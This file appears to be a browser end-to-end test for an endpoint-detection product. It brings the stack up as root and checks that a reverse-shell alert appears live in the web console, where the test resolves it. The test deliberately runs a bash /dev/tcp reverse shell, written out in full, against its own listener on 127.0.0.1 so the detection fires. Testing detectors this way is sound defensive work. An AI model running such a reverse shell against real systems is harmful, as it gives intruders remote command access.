// Browser test (b), the scenario: `vigilctl up --data <tmp>` (as root: the agent runs
// the eBPF driver), log in to the console it prints, see this machine among the hosts, trigger
// a real detection (`bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` against a listener of the test),
// see the alert appear in the open alerts list without a reload (server-sent events), resolve
// it, `vigilctl down`. Screenshots: <build>/console/screenshots/live-*.png.
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { BUILD_DIR, apiCall, apiLogin, check, launchChromium, log, loginUi, main, onExit, run, shot, skip, tempDir, viaMenu, waitFor, watchdog } from "./lib.mjs";

const RULE = "reverse_shell_socket_stdio";  // hub/rules (as tests/e2e/stack_e2e_test.cpp)

main(async () => {
  watchdog(290);
  const vigilctl = path.join(BUILD_DIR, "bin", "vigilctl");
  if (process.getuid?.() !== 0) return skip("needs root (the agent's eBPF driver sees the reverse shell)");
  if (!fs.existsSync(vigilctl)) return skip(`${vigilctl} is not built`);
  const help = await run(vigilctl, ["up", "--help"], { timeoutMs: 10000 });
  if (help.code !== 0) return skip("this vigilctl has no `up` command");
  for (const b of ["vigil-discovery", "vigil-center", "vigil-hub", "vigil-manager", "vigil-agent"]) {
    check(fs.existsSync(path.join(BUILD_DIR, "bin", b)), `${b} is not built`);
  }
  check(fs.existsSync(path.join(BUILD_DIR, "console/dist/index.html")), "the console is not built (target console)");
  const browser = await launchChromium();

  const data = tempDir("vigil-console-live-");
  fs.chmodSync(data, 0o700);
  const portsBase = 30000 + (process.pid % 500) * 12;
  log(`vigilctl up --data ${data} --ports ${portsBase}`);
  onExit(async () => {
    const down = await run(vigilctl, ["down", "--data", data], { timeoutMs: 90000 });
    log(`vigilctl down: exit ${down.code}`);
  });
  const up = await run(vigilctl, ["up", "--data", data, "--ports", String(portsBase)], { timeoutMs: 150000 });
  if (up.code !== 0) {
    for (const f of fs.existsSync(path.join(data, "log")) ? fs.readdirSync(path.join(data, "log")) : []) {
      console.error(`--- ${f}\n${fs.readFileSync(path.join(data, "log", f), "utf8").slice(-2000)}`);
    }
  }
  check(up.code === 0, `vigilctl up failed (${up.code}): ${up.stdout}\n${up.stderr}`);
  const base = /console\s+(http:\/\/[^\s]+?)\/?\s*$/m.exec(up.stdout)?.[1];
  check(base, `vigilctl up printed no console URL:\n${up.stdout}`);
  const password = /password (\S+)/.exec(up.stdout)?.[1] ?? fs.readFileSync(path.join(data, "admin-password"), "utf8").trim();
  log(`console at ${base}`);
  const token = await apiLogin(base, "admin", password);

  // This machine reports in (its first heartbeat).
  const hostname = os.hostname();
  const host = await waitFor(
    "this machine among the hosts",
    async () => (await apiCall(base, "GET", "/api/v1/hosts?state=online", token)).items.find((h) => h.hostname === hostname),
    { timeoutMs: 90000, intervalMs: 1000 },
  );
  log(`host ${host.hostname} (${host.agent_id}) is online`);

  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  page.setDefaultTimeout(15000);
  await loginUi(page, base, "admin", password);
  await viaMenu(page, "Hosts");
  await page.waitForSelector(`tr[data-host="${host.agent_id}"]`);
  check((await page.textContent(`tr[data-host="${host.agent_id}"] .state`)) === "online", "the host shows online");
  await shot(page, "live-hosts");

  // The alerts list stays open while the detection happens.
  await viaMenu(page, "Alerts");
  await page.waitForSelector("table.alerts tbody tr");
  await waitFor("the live event stream", async () => (await page.textContent("[data-testid=live]")) === "live", { timeoutMs: 20000 });
  await page.evaluate(() => ((window).__noReload = true));

  // A local listener takes the reverse shell, tells it to exit and closes.
  const sockets = new Set();
  const listener = net.createServer((sock) => {
    sockets.add(sock);
    sock.on("error", () => {});
    setTimeout(() => sock.end("exit\n"), 500);
    setTimeout(() => sock.destroy(), 3000);
  });
  await new Promise((r) => listener.listen(0, "127.0.0.1", r));
  onExit(() => {
    for (const s of sockets) s.destroy();
    return new Promise((r) => listener.close(() => r()));
  });
  const port = listener.address().port;
  // The reverse shell's alert (other activity of the machine may raise alerts too): found in
  // the API by its rule, and it must be among the rows that arrived live. The driver may still
  // be loading its eBPF programs right after `up`: a shell every 10 s, for up to 2 minutes.
  const liveRow = async () => {
    const found = (await apiCall(base, "GET", `/api/v1/alerts?agent_id=${encodeURIComponent(host.agent_id)}&rule_id=${RULE}&limit=50`, token)).items;
    for (const a of found) {
      const fresh = page.locator(`table.alerts tbody tr.fresh[data-alert="${a.alert_id}"]`);
      if ((await fresh.count()) > 0) return fresh.first();
    }
    return null;
  };
  let row = null;
  for (let attempt = 1; attempt <= 12 && !row; attempt++) {
    log(`reverse shell ${attempt} to 127.0.0.1:${port}`);
    const shell = await run("timeout", ["-s", "KILL", "15", "/bin/bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeoutMs: 20000 });
    log(`the shell ended (${shell.code})`);
    row = await waitFor("the reverse shell's alert in the open list (live)", liveRow, { timeoutMs: 10000, intervalMs: 500 }).catch(() => null);
  }
  check(row, "no reverse shell alert arrived in the open alerts list within 2 minutes");
  check(await page.evaluate(() => (window).__noReload === true), "the page was not reloaded");
  const alertId = await row.getAttribute("data-alert");
  log(`alert ${alertId} appeared live`);
  await shot(page, "live-alerts");

  await row.locator("a").first().click();
  await page.waitForSelector("[data-testid=process-tree]");
  const raw = await page.textContent("pre.raw");
  check(raw.includes(RULE) && /bash/.test(raw), "the detail is the reverse shell's alert");
  await shot(page, "live-alert");
  await page.selectOption("form.workflow select[name=status]", "resolved");
  await page.fill("form.workflow input[name=comment]", "reverse shell from the console test");
  await page.click("form.workflow button[type=submit]");
  await page.waitForSelector("[data-testid=alert-status] .st-resolved");
  const after = await apiCall(base, "GET", `/api/v1/alerts/${encodeURIComponent(alertId)}`, token);
  check(after.status === "resolved", `the alert is ${after.status}`);
  await context.close();

  const down = await run(vigilctl, ["down", "--data", data], { timeoutMs: 90000 });
  check(down.code === 0, `vigilctl down failed: ${down.stderr}`);
});
